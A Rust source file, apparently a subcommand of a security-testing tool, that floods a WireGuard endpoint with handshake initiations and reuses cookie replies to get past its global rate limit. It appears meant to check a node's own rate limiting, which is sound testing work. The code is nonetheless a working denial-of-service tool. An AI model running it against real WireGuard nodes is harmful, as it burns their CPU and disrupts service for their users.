//! `rogue handshake-flood`: WireGuard handshake initiations with a valid
//! MAC1 (anyone who knows a node's public key can make them) from one
//! source, as fast as this host makes them (F13). Each costs the victim a
//! Diffie-Hellman unless it is rate-limited first: the victim's global
//! limit answers with cookies (counted as `rate_limited`); once the rogue
//! has a cookie its initiations carry a valid MAC2 and the per-source
//! limit must stop them (`handshake_rate_limited`).

use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{anyhow, Context};
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519;
use serde_json::{json, Value};

use crate::forge;

/// WireGuard message types (first byte).
const HANDSHAKE_RESPONSE: u8 = 2;
const COOKIE_REPLY: u8 = 3;
/// Initiations sent between looks at the socket.
const BURST: usize = 64;

pub struct HandshakeArgs {
    pub target: SocketAddr,
    pub key: String,
    pub seconds: u64,
}

#[derive(Default)]
struct Tally {
    sent: u64,
    send_errors: u64,
    cookies: u64,
    responses: u64,
    other: u64,
    cookie_taken: bool,
}

fn initiation<'a>(tunn: &mut Tunn, buf: &'a mut [u8]) -> Option<&'a mut [u8]> {
    match tunn.format_handshake_initiation(buf, true) {
        TunnResult::WriteToNetwork(packet) => Some(packet),
        _ => None,
    }
}

/// Gets a cookie: one initiation, and its cookie reply fed back into the
/// session, so later initiations carry a valid MAC2.
fn take_cookie(tunn: &mut Tunn, socket: &UdpSocket, target: SocketAddr, tally: &mut Tally) -> bool {
    let mut buf = [0u8; 256];
    let mut reply = [0u8; 256];
    let Some(packet) = initiation(tunn, &mut buf) else { return false };
    if socket.send(packet).is_err() {
        return false;
    }
    tally.sent += 1;
    let deadline = Instant::now() + Duration::from_millis(200);
    while Instant::now() < deadline {
        let Ok(n) = socket.recv(&mut reply) else { continue };
        if reply.first() != Some(&COOKIE_REPLY) {
            continue;
        }
        tally.cookies += 1;
        let mut out = [0u8; 256];
        // A cookie for an older initiation does not match: try again.
        if let TunnResult::Done = tunn.decapsulate(Some(target.ip()), &reply[..n], &mut out) {
            return true;
        }
    }
    false
}

pub fn run(args: HandshakeArgs) -> anyhow::Result<Value> {
    let key: [u8; 32] = B64
        .decode(args.key.trim())
        .context("--key: not base64")?
        .try_into()
        .map_err(|_| anyhow!("--key: not 32 bytes"))?;
    let peer = x25519::PublicKey::from(key);
    let socket = UdpSocket::bind("0.0.0.0:0").context("udp socket")?;
    socket
        .connect(args.target)
        .with_context(|| format!("no route to {}", args.target))?;
    let mut tunn = Tunn::new(x25519::StaticSecret::from(forge::random32()), peer, None, None, 1, None);
    let mut tally = Tally::default();
    let started = Instant::now();
    let end = started + Duration::from_secs(args.seconds);
    let mut buf = [0u8; 256];
    let mut reply = [0u8; 256];
    while Instant::now() < end {
        socket.set_nonblocking(true).context("nonblocking")?;
        for _ in 0..BURST {
            let Some(packet) = initiation(&mut tunn, &mut buf) else { continue };
            match socket.send(packet) {
                Ok(_) => tally.sent += 1,
                Err(_) => tally.send_errors += 1,
            }
        }
        let mut cookie_seen = false;
        while let Ok(n) = socket.recv(&mut reply) {
            match reply[..n].first() {
                Some(&COOKIE_REPLY) => {
                    tally.cookies += 1;
                    cookie_seen = true;
                }
                Some(&HANDSHAKE_RESPONSE) => tally.responses += 1,
                _ => tally.other += 1,
            }
        }
        if cookie_seen && !tally.cookie_taken {
            socket.set_nonblocking(false).context("blocking")?;
            socket.set_read_timeout(Some(Duration::from_millis(20))).context("timeout")?;
            for _ in 0..10 {
                if take_cookie(&mut tunn, &socket, args.target, &mut tally) {
                    tally.cookie_taken = true;
                    break;
                }
            }
        }
    }
    let secs = started.elapsed().as_secs_f64();
    Ok(json!({
        "target": args.target.to_string(),
        "seconds": secs,
        "sent": tally.sent,
        "send_errors": tally.send_errors,
        "rate_per_sec": (tally.sent as f64 / secs).round(),
        "cookie_replies": tally.cookies,
        "handshake_responses": tally.responses,
        "other_replies": tally.other,
        "cookie_taken": tally.cookie_taken,
    }))
}
